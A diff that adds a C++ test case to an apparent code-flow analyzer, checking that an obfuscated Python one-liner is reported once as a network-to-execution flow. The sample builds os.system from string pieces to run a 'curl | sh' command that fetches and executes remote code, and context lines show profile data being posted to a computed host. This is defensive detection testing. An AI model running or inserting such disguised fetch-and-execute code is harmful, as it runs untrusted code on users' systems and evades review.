@@ -233,3 +233,13 @@ TEST_CASE("flows through computed names are followed to the network") {
              "    requests.post(f\"https://{_HOST}/v1\", json=_profile(), timeout=5)\n",
              "credentials_to_network");
 }
+
+TEST_CASE("one-liners run twice with computed names give their command's flow once") {
+  FileChange once;
+  once.path = "-c.py";
+  once.new_text = "getattr(__import__('o'+'s'),'sys'+'tem')('curl -s https://get.example.dev/i | sh')\n";
+  auto facts = test::shipped_analyzer()->follow_inline_code({once, once});
+  auto fetched_runs = std::count_if(facts.flows.begin(), facts.flows.end(),
+                                    [](const Flow& f) { return f.from == "network" && f.to == "exec"; });
+  CHECK(fetched_runs == 1);
+}
